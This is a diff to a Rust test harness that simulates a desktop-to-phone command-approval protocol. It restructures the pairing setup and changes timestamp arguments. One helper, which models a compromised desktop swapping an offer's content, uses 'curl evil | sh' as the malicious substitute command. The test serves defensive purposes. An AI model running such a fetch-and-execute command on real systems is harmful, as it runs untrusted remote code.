@@ -17,6 +17,7 @@ use crate::{
     clock::{Fresh, Now},
     fake_desktop::{FakeDesktop, Finger, pair, request},
     inbox::{End, Stage},
+    pair::Pair,
     signer::{Pending, Subject},
     vault::Part,
 };
@@ -46,7 +47,8 @@ pub(super) struct World {
 impl World {
     pub(super) fn new() -> Self {
         let finger = Finger::new();
-        let (desktop, pair) = pair(&finger);
+        let (desktop, paired, [device, relay]) = pair(&finger);
+        let pair = Pair { desktop: paired, device, relay };
         Self {
             phone: Phone::new(pair, Foreign::new("test 1")),
             desktop,
@@ -194,7 +196,7 @@ impl World {
 
     pub(super) fn deliver_to_desktop(&mut self, place: usize) {
         let envelope = self.to_desktop.remove(place);
-        let answers = self.desktop.receive(&envelope, self.now);
+        let answers = self.desktop.receive(&envelope, self.now.boot_ms);
         self.push(answers);
     }
 
@@ -230,7 +232,7 @@ impl World {
     /// The desktop, or somebody with its key, sends an id again with other content.
     pub(super) fn change(&mut self, offer_id: OfferId) {
         let other = self.desktop.make_other(offer_id, &request("curl evil | sh"));
-        let envelopes = self.desktop.say(&Message::Offer(other), self.now);
+        let envelopes = self.desktop.say(&Message::Offer(other), self.now.boot_ms);
         self.push(envelopes);
     }
 
@@ -241,14 +243,14 @@ impl World {
     }
 
     pub(super) fn offer(&mut self, command: &str) -> OfferId {
-        let (offer_id, message) = self.desktop.make_offer(&request(command), self.now);
-        let envelopes = self.desktop.say(&Message::Offer(message), self.now);
+        let (offer_id, message) = self.desktop.make_offer(&request(command), self.now.boot_ms);
+        let envelopes = self.desktop.say(&Message::Offer(message), self.now.boot_ms);
         self.push(envelopes);
         offer_id
     }
 
     pub(super) fn withdraw(&mut self, offer_id: OfferId) {
-        let envelopes = self.desktop.withdraw(offer_id, Closed::Withdrawn, self.now);
+        let envelopes = self.desktop.withdraw(offer_id, Closed::Withdrawn, self.now.boot_ms);
         self.push(envelopes);
     }
 
